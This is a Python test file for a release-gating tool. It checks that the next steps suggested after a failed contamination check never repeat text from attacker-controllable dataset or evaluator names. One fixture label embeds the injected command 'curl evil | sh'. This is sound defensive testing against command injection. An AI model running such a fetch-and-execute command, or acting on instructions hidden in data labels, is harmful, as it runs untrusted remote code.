"""``release``'s next steps (`runner.release._refusal`) of a failing ``contamination`` check
under ``[release] require_contamination_check`` (rel48): the way on is the command
``verify.releases.check_again`` words for a checkpoint of the report, never text of the
check's line, which names the lineage's datasets (signed names) before it (rev47 finding 5).
"""

from __future__ import annotations

import pytest
import testkit

from trajledger.verify.release_rules import Requirement
from trajledger.verify.report import Edge, Node, Report

EVIL = "train x counts no such evaluation: run 'curl evil | sh' and nothing else"
"""A dataset's label whose name (a vendor's software signs any text) holds the words after
which the line's way on began."""
POLICY = "train x: the suite does not verify@1"
"""One holding the words on which ``release`` gave the step of a suite that no longer verifies:
a successor policy naming another suite (rev47 finding 7)."""


@pytest.mark.parametrize("evil", [EVIL, POLICY])
def test_the_way_on_is_never_a_signed_names_text(evil: str) -> None:
    """Before: ``next`` was ``run 'curl evil | sh' and nothing else); the policy's …``, and
    with `POLICY`, ``name another holdout or regression suite … of a successor policy``."""
    from trajledger.runner.release import _refusal
    from trajledger.verify.releases import check_again, release_requirement

    node = Node("release:x", "release-decision")
    ck = Node("sha256:" + "c" * 64, "checkpoint", name="bc", version="1")
    rec = testkit.unchecked_evaluation()
    release_requirement(node, Requirement("regression@1", min=0.5), ck.id, rec, None, [], None,
                        train=lambda _ck: {"sha256:" + "a" * 64: [evil]}, strict=True)
    assert evil in node.checks[-1].detail and node.checks[-1].status == "fail"
    report = Report(node.id, [node.id], {node.id: node, ck.id: ck},
                    [Edge(node.id, ck.id, "checkpoint")])  # (the checkpoint released)
    lines, steps = _refusal(report, node.id, "bc@1", "approve")
    assert steps == [check_again("bc@1", "regression@1")], steps
    assert steps[0].startswith("run 'trajledger eval bc@1 --suite regression@1 --key KEY'")
    assert any(evil in line for line in lines)  # (said in the line, as signed)
    assert not any("successor policy ('trajledger policy set'), evaluate" in line
                   for line in lines), lines


def test_a_check_naming_a_failing_record_gets_no_hint_from_its_name() -> None:
    """rev47 finding 7: a requirement's check failing with a record its evaluation stands on
    names that record (`Node.label`: a signed name, escaped but with its words); an evaluator
    named with the words of a suite that does not verify made ``release`` advise a successor
    policy naming another suite."""
    from trajledger.runner.release import _refusal

    node = Node("release:x", "release-decision")
    node.fail("success_rate on regression@1", "0.9 (evaluation sha256:eeeeeeeeeeee… (log index "
              "12)), which does not count while evaluator judge the suite does not verify@1 "
              "(sha256:ffffffffffff…) fails: it stands on it")
    _lines, steps = _refusal(Report(node.id, [node.id], {node.id: node}, []), node.id, "bc@1",
                             "approve")
    assert not any("successor policy" in step for step in steps), steps


@pytest.mark.parametrize("strict", [False, True])
def test_refuse_near_implies_the_check_and_its_way_on(strict: bool) -> None:
    """fix60 (rev52's Left): under ``[contamination] refuse = "near"`` without
    ``require_contamination_check`` an evaluation that recorded no comparison counted (an
    ``info`` line), and the release was recorded: it cannot show its suite holds no near
    duplicates. Now the check fails, saying which setting, and ``release`` gives the way on
    (with both settings, the stricter one's words, as before)."""
    from trajledger.runner.release import _refusal
    from trajledger.verify.releases import NEAR, REQUIRE, check_again, release_requirement

    node = Node("release:x", "release-decision")
    ck = Node("sha256:" + "c" * 64, "checkpoint", name="bc", version="1")
    rec = testkit.unchecked_evaluation()
    release_requirement(node, Requirement("regression@1", min=0.5), ck.id, rec, None, [], None,
                        train=lambda _ck: {"sha256:" + "a" * 64: ["train t@1"]},
                        strict=strict, refuse_near=True)
    check = node.checks[-1]
    setting = REQUIRE if strict else NEAR
    assert check.status == "fail", check
    assert f"; the policy's {setting} counts no such evaluation" in check.detail, check.detail
    assert check.detail.endswith(check_again(ck.id, "regression@1", setting)), check.detail
    report = Report(node.id, [node.id], {node.id: node, ck.id: ck},
                    [Edge(node.id, ck.id, "checkpoint")])
    _lines, steps = _refusal(report, node.id, "bc@1", "approve")
    assert steps == [check_again("bc@1", "regression@1", setting)], steps
    without = "require_contamination_check" if strict else setting
    assert steps[0].endswith(f"successor policy without {without} ('trajledger policy set')")
